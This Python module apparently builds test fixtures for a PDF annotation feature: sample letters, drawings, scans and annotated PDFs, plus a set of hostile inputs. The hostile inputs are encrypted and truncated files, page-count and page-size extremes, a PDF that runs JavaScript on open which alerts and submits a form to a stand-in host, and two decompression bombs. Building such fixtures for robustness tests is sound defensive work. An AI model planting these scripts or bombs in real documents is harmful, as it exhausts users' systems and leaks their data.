"""Which files do the tests of remarks on pages use? Of each kind a real one, one annotated elsewhere, and hostile ones."""

import io
import random
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw
from weasyprint import HTML

POINTS_A1, POINTS_A0 = (2383.9, 1683.8), (3370.4, 2383.9)


def saved(pdf: pikepdf.Pdf, **how) -> bytes:
    target = io.BytesIO()
    pdf.save(target, **how)
    return target.getvalue()


def tekst(pages: int = 3) -> bytes:
    """A letter of a few pages, as an office program makes it."""
    body = "".join(f"<h1>Hoofdstuk {n}</h1>" + "<p>De dakkapel komt op het voordakvlak en is drie meter breed.</p>" * 12
                   + "<div style='page-break-after:always'></div>" for n in range(1, pages)) + "<h1>Slot</h1><p>Einde.</p>"
    return HTML(string=f"<html lang=nl><title>Toelichting</title>{body}").write_pdf()


def pagina(pdf: pikepdf.Pdf, size, content: str, **more) -> pikepdf.Page:
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page = pdf.add_blank_page()
    page.obj["/MediaBox"] = Array([0, 0, *size])
    page.obj["/Contents"] = pdf.make_stream(content.encode())
    page.obj["/Resources"] = Dictionary(Font=Dictionary(F=font))
    for name, value in more.items():
        page.obj[f"/{name}"] = value
    return page


def plattegrond(size, lines: int = 0) -> str:
    """Walls, doors and a title block over the whole sheet; `lines` more as hatching."""
    wide, high = size
    steps = ["3 w", f"{wide * .05:.1f} {high * .08:.1f} {wide * .7:.1f} {high * .8:.1f} re S"]
    for n in range(1, 4):
        x = wide * (.05 + .175 * n)
        steps.append(f"{x:.1f} {high * .08:.1f} m {x:.1f} {high * .55:.1f} l S")
    steps.append(f"{wide * .05:.1f} {high * .62:.1f} m {wide * .75:.1f} {high * .62:.1f} l S")
    steps.append(f"1 w {wide * .78:.1f} {high * .05:.1f} {wide * .19:.1f} {high * .3:.1f} re S")
    steps.append(f"BT /F {high / 40:.0f} Tf {wide * .79:.1f} {high * .3:.1f} Td (Begane grond 1 : 100) Tj ET 0.2 w")
    noise = random.Random(1)
    for _ in range(lines):
        x, y = wide * (.05 + .7 * noise.random()), high * (.08 + .8 * noise.random())
        steps.append(f"{x:.3f} {y:.3f} m {x + 20 * noise.random():.3f} {y + 20 * noise.random():.3f} l S")
    return "\n".join(steps)


def tekening(draai: int = 0, size=POINTS_A1, lines: int = 200, compress: bool = True, **more) -> bytes:
    """A drawing of lines, turned and cropped as asked."""
    with pikepdf.new() as pdf:
        pagina(pdf, size, plattegrond(size, lines), Rotate=draai, **more)
        return saved(pdf, compress_streams=compress)


def scan(mime: str = "application/pdf") -> bytes:
    """A picture of a paper with handwriting; as PDF a page with nothing but that picture."""
    image = Image.new("RGB", (1240, 1754), "#f4f1e6")
    draw = ImageDraw.Draw(image)
    for n in range(20):
        draw.line([(150, 200 + 70 * n), (1000 + (n * 37) % 90, 200 + 70 * n + (n * 13) % 9)], fill="#22314f", width=4)
    target = io.BytesIO()
    image.save(target, {"application/pdf": "PDF", "image/png": "PNG", "image/jpeg": "JPEG"}[mime], resolution=150)
    return target.getvalue()


def elders_geannoteerd(data: bytes) -> bytes:
    """The same file with remarks as another program writes them: other dates, an answer before what it answers."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0]
        note = pdf.make_indirect(annotatie(Name.Text, [100, 700, 120, 720], "Waarom hier?", Name=Name.Note,
                                            NM=String("okular-1"), M=String("D:20250930143000+02'00'")))
        answer = pdf.make_indirect(annotatie(Name.Text, [100, 700, 120, 720], "Omdat de trap daar komt.", IRT=note,
                                              T=String("Piet"), NM=String("okular-2")))
        page.obj["/Annots"] = pdf.make_indirect(Array([answer, note, *(pdf.make_indirect(found) for found in (
            annotatie(Name.Square, [200, 400, 340, 500], "Te smal", RD=Array([2, 2, 2, 2])),
            annotatie(Name.Circle, [400, 400, 440, 440], "Deze ook"),
            annotatie(Name.Line, [50, 50, 300, 60], "Rooilijn", L=Array([50, 50, 300, 60])),
            annotatie(Name.PolyLine, [50, 100, 90, 140], "Hek", Vertices=Array([50, 100, 90, 100, 90, 140])),
            annotatie(Name.Ink, [10, 10, 60, 40], "Krabbel", InkList=Array([Array([10, 10, 30, 40, 60, 10])])),
            annotatie(Name.FreeText, [300, 600, 420, 640], "Los tekstvak", DA=String("/Helv 12 Tf")),
            annotatie(Name.Highlight, [72, 640, 272, 655], "", QuadPoints=Array([72, 655, 272, 655, 72, 640, 272, 640])),
            annotatie(Name.Stamp, [300, 300, 400, 340], "", Name=Name.Approved),
            annotatie(Name.Link, [0, 0, 10, 10], "geen opmerking"),
            annotatie(Name.Widget, [0, 0, 10, 10], "geen opmerking")))]))
        return saved(pdf)


def annotatie(subtype, rect, contents: str, **more) -> Dictionary:
    words = {"T": String("Karin (Acrobat)"), "Contents": String(contents)} | more
    return Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array(rect), **words)


# What comes from people who mean no good, or from broken programs


def versleuteld() -> bytes:
    with pikepdf.open(io.BytesIO(tekst(2))) as pdf:
        return saved(pdf, encryption=pikepdf.Encryption(user="geheim", owner="nog geheimer"))


def kapot() -> bytes:
    return tekst(2)[:900] + b"\n%%EOF\n"


def reuzenblad(side: float = 14400) -> bytes:
    return tekening(size=(side, side), lines=50)


def veel_bladen(pages: int = 10_000) -> bytes:
    with pikepdf.new() as pdf:
        content = pdf.make_stream(b"0 0 m 100 100 l S")
        for _ in range(pages):
            pdf.add_blank_page(page_size=(595, 842)).obj["/Contents"] = content
        return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def met_script() -> bytes:
    """Scripts at every place where a reader could run them."""
    code = "app.alert('gehackt'); document.title = 'gehackt'; this.submitForm('https://elders.test/');"
    with pikepdf.open(io.BytesIO(tekst(2))) as pdf:
        action = Dictionary(S=Name.JavaScript, JS=String(code))
        pdf.Root["/OpenAction"] = pdf.make_indirect(action)
        pdf.Root["/AA"] = Dictionary(WC=action)
        pdf.Root["/Names"] = Dictionary(JavaScript=Dictionary(Names=Array([String("begin"), action])))
        pdf.pages[0].obj["/AA"] = Dictionary(O=action)
        return saved(pdf)


def beeldbom(side: int = 20_000) -> bytes:
    """A PDF of a few kB with a picture that unfolds to more than a browser has room for."""
    row = zlib.compressobj(9)
    data = b"".join([*(row.compress(bytes(side)) for _ in range(side)), row.flush()])
    with pikepdf.new() as pdf:
        page = pagina(pdf, (595, 842), "q 400 0 0 400 50 200 cm /I Do Q BT /F 24 Tf 60 700 Td (Er staat ook tekst) Tj ET")
        image = pdf.make_stream(zlib.compress(data, 9), Type=Name.XObject, Subtype=Name.Image, Width=side, Height=side,
                                ColorSpace=Name.DeviceGray, BitsPerComponent=8)
        image["/Filter"] = Array([Name.FlateDecode, Name.FlateDecode])
        page.obj["/Resources"]["/XObject"] = Dictionary(I=image)
        return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def pngbom() -> bytes:
    """A small PNG of 400 million pixels."""
    target = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(target, "PNG")
    return target.getvalue()
